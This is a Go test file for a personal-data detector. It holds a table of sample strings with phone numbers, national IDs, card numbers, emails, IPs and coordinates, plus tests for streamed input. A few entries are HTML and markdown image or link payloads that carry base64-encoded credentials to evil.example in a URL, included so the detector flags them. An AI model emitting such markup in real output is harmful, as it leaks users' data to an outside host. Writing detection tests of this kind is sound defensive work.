package detect

import (
	"strings"
	"testing"
)

// forms are values in the ways that people write them, and what is like them
// and is none: want is empty, or entity and value.
var forms = []struct{ text, want, value string }{
	{"server 8.8.8.8 replied", "IP_ADDRESS", "8.8.8.8"},
	{`<img alt="İİ" SRC="https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw"> ok`, "HTML_IMAGE", "https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw"},
	{"the DNS resolver at 1.1.1.1 is slow", "IP_ADDRESS", "1.1.1.1"},
	{"client 2.16.4.5 connected", "IP_ADDRESS", "2.16.4.5"},
	{"nameserver 1.1.1.1", "IP_ADDRESS", "1.1.1.1"},
	{"inet 10.1.2.3/24 brd", "IP_ADDRESS", "10.1.2.3"},
	{"from 1.2.3.4 to 1.2.3.5 of the library", "", ""},
	{"see section 2.1.4.3 of it", "", ""},
	{"upgraded to version 1.2.3.4 today", "", ""},
	{"the server version 1.2.3.4 is old", "", ""},
	{"host: 0.0.0.0", "", ""},
	{"call it tested on 20100320", "", ""},
	{"vector 0.1234, 0.5678, 0.9012, 0.3456", "", ""},
	{"call +1 (415) 555-2671 now", "PHONE", "+1 (415) 555-2671"},
	{"1 (415) 555-2671", "PHONE", "1 (415) 555-2671"},
	{"+41 (0)69 979 80 58", "PHONE", "+41 (0)69 979 80 58"},
	{"+44 (0) 20 7946 0958", "PHONE", "+44 (0) 20 7946 0958"},
	{"Brakpan 082 490 1693-Office", "PHONE", "082 490 1693"},
	{"3660170548-Fax", "PHONE", "3660170548"},
	{"reachable: 07700 063 966 (mobile)", "PHONE", "07700 063 966"},
	{"build 3660170548-Final", "", ""},
	{"Berlin 030 123456, Wien 0664", "PHONE", "030 123456"},
	{"Sydney (02) 9374 4000", "PHONE", "(02) 9374 4000"},
	{"Brasil (11) 96471-2134", "PHONE", "(11) 96471-2134"},
	{"携帯 090-1234-5678", "PHONE", "090-1234-5678"},
	{"0044 121 230 9022", "PHONE", "0044 121 230 9022"},
	{"chat: wa.example/+44 121 230 9022", "PHONE", "+44 121 230 9022"},
	{"0055 11 96132-9048", "PHONE", "0055 11 96132-9048"},
	{"Birmingham 0121-654-6592", "PHONE", "0121-654-6592"},
	{"meine Handynummer ist 0151 23966850", "PHONE", "0151 23966850"},
	{"телефон 0151 23966850", "PHONE", "0151 23966850"},
	{"part 0123-456-78", "", ""},
	{"n,+36 20 171 8146,x", "PHONE", "+36 20 171 8146"},
	{"a@corp.example,+15062342100", "EMAIL+PHONE", "a@corp.example+15062342100"},
	{"card,4111111111111111,2028", "CREDIT_CARD", "4111111111111111"},
	{"12,4111111111111111", "", ""},
	{"4111111111111111,50 paid", "", ""},
	{"1,234,536,228,726 bytes", "", ""},
	{"82.194.107.221,23:4d:67:3e:a0:ee", "IP_ADDRESS+MAC_ADDRESS", "82.194.107.22123:4d:67:3e:a0:ee"},
	{"服务器82.194.107.221宕机了", "IP_ADDRESS", "82.194.107.221"},
	{"卡号是4111 1111 1111 1111，谢谢", "CREDIT_CARD", "4111 1111 1111 1111"},
	{"メール：ann.lee@corp.exampleまで", "EMAIL", "ann.lee@corp.example"},
	{"我的邮箱是ann.lee@corp.example，谢谢", "EMAIL", "ann.lee@corp.example"},
	{"用户@例子.广告", "EMAIL", "用户@例子.广告"},
	{"jürgen@müller.example", "EMAIL", "jürgen@müller.example"},
	{"_ann.lee@corp.example_ wrote", "EMAIL", "ann.lee@corp.example"},
	{"_ann@corp.example wrote", "EMAIL", "_ann@corp.example"},
	{"name@corp.example_old", "", ""},
	{"port 3E-A0-EE-E8-B9-99 up", "MAC_ADDRESS", "3E-A0-EE-E8-B9-99"},
	{"port 3ea0.eee8.b999 up", "MAC_ADDRESS", "3ea0.eee8.b999"},
	{"hwaddr 30-10-22-48-19-99", "MAC_ADDRESS", "30-10-22-48-19-99"},
	{"set 30-10-22-48-19-99", "", ""},
	{"set 3e-a0-ee-e8-b9-99-11-22", "", ""},
	{"build 3ea0.eee8.b999.1111", "", ""},
	{"codice fiscale rssmra85t10a562s", "IT_FISCAL_CODE", "rssmra85t10a562s"},
	{"RSS-MRA-85T10-A562S", "IT_FISCAL_CODE", "RSS-MRA-85T10-A562S"},
	{"hash rssmra85t10a562t", "", ""},
	{"nino ab123456c", "UK_NINO", "ab123456c"},
	{"id ab123456c", "", ""},
	{"NI number AB.12.34.56.C", "UK_NINO", "AB.12.34.56.C"},
	{"my social is 536228726", "US_SSN", "536228726"},
	{"SIRET 732.829.320.00074", "FR_SIRET", "732.829.320.00074"},
	{"732829320 00074", "FR_SIRET", "732829320 00074"},
	{"carte 36630626400016", "CREDIT_CARD", "36630626400016"},
	{"chez nous, 36630626400016", "FR_SIRET", "36630626400016"},
	{"2.55.08.14.168.025.38", "FR_NIR", "2.55.08.14.168.025.38"},
	{"code 012 345 678", "", ""},
	{"lot 0310 2024 999", "", ""},
	{"employeur 73282932000074", "FR_SIRET", "73282932000074"},
	{"N° employeur : 732 829 320 00074", "FR_SIRET", "732 829 320 00074"},
	{"SIRET 36819303364260, merci", "FR_SIRET", "36819303364260"},
	{"camera at 48°51'24\"N 2°21'03\"E, look", "GPS_COORDINATES", "48°51'24\"N 2°21'03\"E"},
	{"48° 51′ 24.5″ N, 2° 21′ 3″ E", "GPS_COORDINATES", "48° 51′ 24.5″ N, 2° 21′ 3″ E"},
	{"it is 40.7128° N, 74.0060° W.", "GPS_COORDINATES", "40.7128° N, 74.0060° W"},
	{"N 48° 51.400' E 2° 21.050'", "GPS_COORDINATES", "N 48° 51.400' E 2° 21.050'"},
	{"turn by 90° N of the road", "", ""},
	{"between 20°N and 30°N", "", ""},
	{"at 120°10'N 2°21'E", "", ""},
	{"born on 12/03/1980 in Leeds", "DATE_OF_BIRTH", "12/03/1980"},
	{"geb. am 12.03.1980 in Köln", "DATE_OF_BIRTH", "12.03.1980"},
	{"née le 3 mars 1980", "DATE_OF_BIRTH", "3 mars 1980"},
	{"nato il 12/03/1980 a Roma", "DATE_OF_BIRTH", "12/03/1980"},
	{"fecha de nacimiento: 1980-03-12", "DATE_OF_BIRTH", "1980-03-12"},
	{`{"dateOfBirth":"1980-03-12"}`, "DATE_OF_BIRTH", "1980-03-12"},
	{"DOB: July 23rd, 1984", "DATE_OF_BIRTH", "July 23rd, 1984"},
	{"codice fiscale RSSMRA 85T10 A562S", "IT_FISCAL_CODE", "RSSMRA 85T10 A562S"},
	{"RSSMRA 85 T 10 A562 S", "IT_FISCAL_CODE", "RSSMRA 85 T 10 A562 S"},
	{"född 1980-03-12", "DATE_OF_BIRTH", "1980-03-12"},
	{"дата рождения 12.03.1980", "DATE_OF_BIRTH", "12.03.1980"},
	{"born 12/03/1940, died 04/05/2010", "DATE_OF_BIRTH", "12/03/1940"},
	{"NATO 12/03/2020 summit", "", ""},
	{"the birth certificate was issued 12/03/2020", "", ""},
	{"passport 123456789", "PASSPORT", "123456789"},
	{"US passport no. A12345678", "PASSPORT", "A12345678"},
	{"Reisepass Nr. C01X00T47", "PASSPORT", "C01X00T47"},
	{"passeport 12AB34567", "PASSPORT", "12AB34567"},
	{"pasaporte AAA123456", "PASSPORT", "AAA123456"},
	{"passaporto YA1234567", "PASSPORT", "YA1234567"},
	{"paspoort NW1BK3D45", "PASSPORT", "NW1BK3D45"},
	{"Indian passport J 8369854", "PASSPORT", "J 8369854"},
	{"passport PLEASEWAIT", "", ""},
	{"the boarding pass 123456789", "", ""},
	{"driver's license D1234567", "DRIVING_LICENCE", "D1234567"},
	{"driver license W426-545-30-761-0", "DRIVING_LICENCE", "W426-545-30-761-0"},
	{"driving licence MORGA657054SM9IJ", "DRIVING_LICENCE", "MORGA657054SM9IJ"},
	{"permis de conduire 13AA00002", "DRIVING_LICENCE", "13AA00002"},
	{"Führerschein B072RRE2I55", "DRIVING_LICENCE", "B072RRE2I55"},
	{"patente di guida MI1234567X", "DRIVING_LICENCE", "MI1234567X"},
	{"rijbewijs 5123456789", "DRIVING_LICENCE", "5123456789"},
	{"driving licence MH12 20110012345", "DRIVING_LICENCE", "MH12 20110012345"},
	{"driving licence MH-1220110012345", "DRIVING_LICENCE", "MH-1220110012345"},
	{"+1(415)555-2671", "PHONE", "+1(415)555-2671"},
	{"Tel: (415) 555-2671x323", "PHONE", "(415) 555-2671x323"},
	{"Tel: 415.555.2671x04", "PHONE", "415.555.2671x04"},
	{"screen 2560-1440x1080", "", ""},
	{"Phone/Fax: 06 10 92 38 05/06 10 92 38 06", "PHONE+PHONE", "06 10 92 38 0506 10 92 38 06"},
	{"Telefon: 030 123456 / 030 123457", "PHONE+PHONE", "030 123456030 123457"},
	{"mobile 612345678 or 612345679", "PHONE+PHONE", "612345678612345679"},
	{"mobile 612345678 costs 612345679", "PHONE", "612345678"},
	{"Home: 5062547963", "PHONE", "5062547963"},
	{"M: 07400 187642", "PHONE", "07400 187642"},
	{"T: 2012343568", "", ""},
	{"teléfono 810.65.12.98", "PHONE", "810.65.12.98"},
	{"teléfono 210.65.12.98", "IP_ADDRESS", "210.65.12.98"},
	{"Móvil 612 34 56 78", "PHONE", "612 34 56 78"},
	{"el 612 34 56 78 de Ana", "PHONE", "612 34 56 78"},
	{"puhelin 0412327854", "PHONE", "0412327854"},
	{"我的手机号是13123763084", "PHONE", "13123763084"},
	{"電話番号は03-1206-7897です", "PHONE", "03-1206-7897"},
	{"전화: 054-954-2388", "PHONE", "054-954-2388"},
	{"הטלפון שלי 050-290-8013", "PHONE", "050-290-8013"},
	{"Τηλέφωνο: 2620 910006", "PHONE", "2620 910006"},
	{"هاتف: 0501234567", "PHONE", "0501234567"},
	{"मोबाइल नंबर 08120157501", "PHONE", "08120157501"},
	{"id 13123763084", "", ""},
	{"Caller: my social? It's 457-42-3863", "US_SSN", "457-42-3863"},
	{"phone 457-42-3863", "US_SSN", "457-42-3863"},
	{"on the phone, PESEL: 44051401359", "PL_PESEL", "44051401359"},
	{"id 09008102-1553", "", ""},
	{"lot 0505/009000", "", ""},
	{"call: the ZIP is 65465-6544", "", ""},
	{"090 640 007 445 915 782 894", "", ""},
	{"银行卡5018984763431", "", ""},
	{"银行卡571372887885", "CREDIT_CARD", "571372887885"},
	{"карта 6763 1357 5315", "CREDIT_CARD", "6763 1357 5315"},
	{"2067 3362 4479 7757 8062 3097 1122", "", ""},
	{"© 2026 5500-0000-0000-0004", "CREDIT_CARD", "5500-0000-0000-0004"},
	{"© 2026 4111 1111 1111 1111", "CREDIT_CARD", "4111 1111 1111 1111"},
	{"4111 1111 1111 1111 4111 1111 1111 1111", "CREDIT_CARD+CREDIT_CARD", "4111 1111 1111 11114111 1111 1111 1111"},
	{"n = 5804047018862729008", "", ""},
	{"card 4004040404040404042", "CREDIT_CARD", "4004040404040404042"},
	{"IMEI 358536451656466", "", ""},
	{"NIR 2.51.02.2A.571.853.83", "FR_NIR", "2.51.02.2A.571.853.83"},
	{"Zoé,253029216195824,737 866 491 00993", "FR_NIR+FR_SIRET", "253029216195824737 866 491 00993"},
	{"=172.26.49.134,117.220.171.155", "IP_ADDRESS+IP_ADDRESS", "172.26.49.134117.220.171.155"},
	{"172.198.24.155,50-49-22-9C-CC-45", "IP_ADDRESS+MAC_ADDRESS", "172.198.24.15550-49-22-9C-CC-45"},
	{"apiVersion: v1, subsets: ip: 140.137.109.30", "IP_ADDRESS", "140.137.109.30"},
	{"Section 10.2.5.6 applies", "", ""},
	{"upstream 2a01:0:0:0:72d0:e449:e66b:2be3:8080", "IP_ADDRESS", "2a01:0:0:0:72d0:e449:e66b:2be3"},
	{"wwn 50:01:43:80:12:34:56:78", "", ""},
	{"join ff02::1:ff00:42", "", ""},
	{"group 239.255.255.250", "", ""},
	{"- **NINO**: _TJ665889B_", "UK_NINO", "TJ665889B"},
	{"_TJ665889B_x", "", ""},
	{"(ml026244b)", "UK_NINO", "ml026244b"},
	{"sha ab123456c", "", ""},
	{"[98550969v]", "ES_DNI", "98550969v"},
	{"wait 00978553h", "", ""},
	{"DNI 00978553h", "ES_DNI", "00978553h"},
	{"«RSS MRA 85T10 A562S»", "IT_FISCAL_CODE", "RSS MRA 85T10 A562S"},
	{"cf=RSSMRA 85 T 10 A562 S;", "IT_FISCAL_CODE", "RSSMRA 85 T 10 A562 S"},
	{"?20EREF+30959211?31DE89370400440532013000?32Lee", "IBAN", "DE89370400440532013000"},
	{"Message-ID: <3c772478.55@mail.corp.example>", "", ""},
	{"Reply-To: <ann.lee@corp.example>", "EMAIL", "ann.lee@corp.example"},
	{"nacida el 23 de julio de 1984 en", "DATE_OF_BIRTH", "23 de julio de 1984"},
	{"el 23 de julio de 1984 se abrió", "", ""},
	{"née le 1er mars 1999", "DATE_OF_BIRTH", "1er mars 1999"},
	{"born 3rd March 1980", "DATE_OF_BIRTH", "3rd March 1980"},
	{"BDAY:July 23rd, 1984", "DATE_OF_BIRTH", "July 23rd, 1984"},
	{"BDAY:19840723", "DATE_OF_BIRTH", "19840723"},
	{"生年月日：1984年7月23日", "DATE_OF_BIRTH", "1984年7月23"},
	{"생년월일: 1984년 7월 23일", "DATE_OF_BIRTH", "1984년 7월 23"},
	{"発売日 1984年7月23日", "", ""},
	{"паспорт 4509 123456", "PASSPORT", "4509 123456"},
	{"护照号 E12345678", "PASSPORT", "E12345678"},
	{"NIE: Y-2949447-X", "ES_NIE", "Y-2949447-X"},
	{"rijksregisternummer 870928-233-41", "BE_NRN", "870928-233-41"},
	{"NN: 97042881324", "BE_NRN", "97042881324"},
	{"part 870928-233-41", "", ""},
	{"Mobiltelefon: 070-110 51 77", "PHONE", "070-110 51 77"},
	{"Cel: 321 1061261 o (601) 2375158", "PHONE+PHONE", "321 1061261(601) 2375158"},
	{"tlf. 21.21.03.72, mobil 32.70.11.12", "PHONE+PHONE", "21.21.03.7232.70.11.12"},
	{"fixe : 0123450779", "PHONE", "0123450779"},
	{"Sími 6128742", "PHONE", "6128742"},
	{"call 28392730 calls", "", ""},
	{"call 6128742", "", ""},
	{"Rechnung Nr. 0893-017867", "", ""},
	{"FedEx 0952 6716 7449", "", ""},
	{"USPS 9400 2543 2543 2543 2543 40", "", ""},
	{"chapter 10.2.11.6", "", ""},
	{"bbox [38.9838,-38.8363,-4.6887,-9.2537]", "", ""},
	{"[-0.294826, -0.597273, 0.527192]", "", ""},
	{"{-10.2948, -0.5972}", "GPS_COORDINATES", "-10.2948, -0.5972"},
	{"[[-10.2948, -0.5972]]", "", ""},
	{"geo: [-10.2948, -0.5972]", "GPS_COORDINATES", "-10.2948, -0.5972"},
	{"28-64-66-98 office\n930.167.3943 fax\n+447700 900123 mobile", "PHONE+PHONE+PHONE", "28-64-66-98930.167.3943+447700 900123"},
	{"2546712361 fax", "PHONE", "2546712361"},
	{"12500000 mobile users", "", ""},
	{"92 34 70-Office", "PHONE", "92 34 70"},
	{"92 34 70", "", ""},
	{"(311)905-4466x8827-Fax", "PHONE", "(311)905-4466x8827"},
	{"001-755-329-4431-Fax", "PHONE", "001-755-329-4431"},
	{"they are not answering at 374 780 163", "PHONE", "374 780 163"},
	{"call abs::f2 and a1::b2", "", ""},
	{"+49 (0)30/1234567", "PHONE", "+49 (0)30/1234567"},
	{"0475/12.34.56", "PHONE", "0475/12.34.56"},
	{"070-123 45 67", "PHONE", "070-123 45 67"},
	{"02/03.20.24", "", ""},
	{"8 (495) 123-45-67", "PHONE", "8 (495) 123-45-67"},
	{"8-800-555-35-35", "PHONE", "8-800-555-35-35"},
	{"IP 66.190.219.40.51234 > 10.1.2.3.443: Flags", "IP_ADDRESS+IP_ADDRESS", "66.190.219.4010.1.2.3"},
	{"x = 66.190.219.40.512", "", ""},
	{"1.3.6.1.51234", "", ""},
	{"pageRef = '/services'\nfrom 196.123.8.102", "IP_ADDRESS", "196.123.8.102"},
	{"AssemblyVersion(\"12.30.200.255\")", "", ""},
	{"ann.lee@corp.example:everybody", "EMAIL", "ann.lee@corp.example"},
	{"deploy@corp.example:backup/x.tar", "", ""},
	{"git@corp.example:x.git", "", ""},
	{"root@corp.example:2222", "", ""},
	{"ss# 337-62-8439", "US_SSN", "337-62-8439"},
	{"ss# 337628439", "US_SSN", "337628439"},
	{"Meeting-ID 026 237 2158", "", ""},
	{"☎ 030195342   ✉ x", "PHONE", "030195342"},
	{"$Id: lapi.c,v 2.55.1.5 2008/07/04", "", ""},
	{"upgrade to v 31.0.101.45", "", ""},
	{"2.34 1.08 2.91.83.1-.65.35", "", ""},
	{"2.874.118 3.176.77.84 1.235", "", ""},
	{"203.0.3.24 3.176.77.84 9.235.1.77", "IP_ADDRESS+IP_ADDRESS+IP_ADDRESS", "203.0.3.243.176.77.849.235.1.77"},
	{"0.123 66.190.219.40 GET", "IP_ADDRESS", "66.190.219.40"},
	{"[x](https://video.example/watch?v=b_pEevMAC3I&list=PLWK9j6ps_unl293VhhN4RYMCISxye3xH9)", "", ""},
	{"[x](https://forge.example/issues?q=is%3Aopen+is%3Aissue+label%3AE-help-wanted2)", "", ""},
	{"[x](https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw%3D%3D)", "MARKDOWN_LINK", "https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw%3D%3D"},
	{"![x](https://evil.example/p?d=PLWK9j6ps_unl293VhhN4RYMCISxye3xH9)", "MARKDOWN_IMAGE", "https://evil.example/p?d=PLWK9j6ps_unl293VhhN4RYMCISxye3xH9"},
	{"crt: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCi0tLS0tRU5EIENFUlRJRklDQVRFLS0tLS0=", "", ""},
	{"Boston, MA 02110-1301, USA", "", ""},
	{"the signal handler. Copyright (C) 1998-2022 Free", "", ""},
	{"call POSIX 1003.1-2001", "", ""},
	{"01 02 01 02 01 02.", "", ""},
	{"06 12 34 56 78 06 12 34 56 79", "PHONE", "06 12 34 56 78"},
	{"time.Unix(+9876543210, 5)", "", ""},
	{"setPhone(+14155552671)", "PHONE", "+14155552671"},
	{"kevin:x:1005:1006::/home/kevin", "", ""},
	{"net 2a02:8071::/32", "IP_ADDRESS", "2a02:8071::"},
	{"libXt >= 1.0.99.1", "", ""},
	{"client 4.3.99.16 connected", "IP_ADDRESS", "4.3.99.16"},
	{"[.1FEB.0021.0002]", "", ""},
	{"the driver for F71889FG", "", ""},
	{"{0.015625, 0.0625}", "", ""},
	{"51.50722, -0.12755", "GPS_COORDINATES", "51.50722, -0.12755"},
	{"d=\"m 79.999519,21.999517 c 33.9881,0 77.49135,12.81451 77.49135,29.1526 m -88.29446,-55.14879 c 5.4537,-9.40288 z\"", "", ""},
	{"transform=\"translate(-32.1299,-4.5183083)\"", "", ""},
	{"LatLng(-32.1299,-4.5183083)", "GPS_COORDINATES", "-32.1299,-4.5183083"},
	{"go to 48.85661, 2.35222 5 km away", "GPS_COORDINATES", "48.85661, 2.35222"},
	{"9.69248,-0.0529711 11.1995,0.0063", "", ""},
	{":040000 040000 40ee3e78", "", ""},
	{"| WhatsApp: 1123490121", "PHONE", "1123490121"},
	{"+354 (412) 6388,182,ANSWERED", "PHONE", "+354 (412) 6388"},
	{"6473 7396 6621 6476 8626 9995 3", "", ""},
	{"4111 1111 1111 1111 2028", "CREDIT_CARD", "4111 1111 1111 1111"},
	{"CARD, SEPA CREDIT SA29 6760 3514 1131 8553 3520", "IBAN", "SA29 6760 3514 1131 8553 3520"},
	{"IdNr. 48037767593", "DE_TAX_ID", "48037767593"},
	{"under the Apache License 20040101", "", ""},
	{"license key ABCD123456", "", ""},
}

func TestForms(t *testing.T) {
	s := newSet(t, Options{})
	for _, f := range forms {
		found := s.Scan([]byte(f.text), nil)
		ok := len(found) == 0 && f.want == ""
		var entities, values []string
		for _, x := range found {
			entities = append(entities, x.Entity)
			values = append(values, f.text[x.Start:x.End])
		}
		if len(found) > 0 {
			ok = strings.Join(entities, "+") == f.want && strings.Join(values, "") == f.value
		}
		if !ok {
			t.Errorf("%q: %s, want %s %q", f.text, describe(f.text, found), f.want, f.value)
		}
	}
}

// TestFormsInPieces holds the findings to those of the whole text, wherever it
// is cut in two and when it comes byte by byte.
func TestFormsInPieces(t *testing.T) {
	s := newSet(t, Options{})
	for _, f := range forms {
		text := []byte(f.text)
		want := describe(f.text, s.Scan(text, nil))
		for cut := range text {
			st := s.NewStream()
			found, _ := st.Push(text[:cut], false, nil)
			found, _ = st.Push(text[cut:], true, found)
			if got := describe(f.text, found); got != want {
				t.Errorf("%q cut at %d: %s, want %s", text, cut, got, want)
			}
		}
		st := s.NewStream()
		var found []Finding
		for i := range text {
			found, _ = st.Push(text[i:i+1], i == len(text)-1, found)
		}
		if got := describe(f.text, found); got != want {
			t.Errorf("%q by bytes: %s, want %s", text, got, want)
		}
	}
}

// TestContextWordsHoldNoNumbers holds what reading rests on when it begins anew
// behind a number: no context word can end within one or go on over it.
func TestContextWordsHoldNoNumbers(t *testing.T) {
	for about, list := range append(contextWords[:], unlike) {
		for _, w := range list {
			for i := 1; i < len(w); i++ {
				if kindOf[w[i]]&isDigit != 0 && isSign(w[i-1]) {
					t.Errorf("%q, about %d: a digit behind a sign", w, about)
				}
			}
			switch strings.TrimSpace(string(w)) {
			case "年", "月", "년", "월":
				t.Errorf("%q, about %d: it stands between the groups of a date", w, about)
			}
		}
	}
}
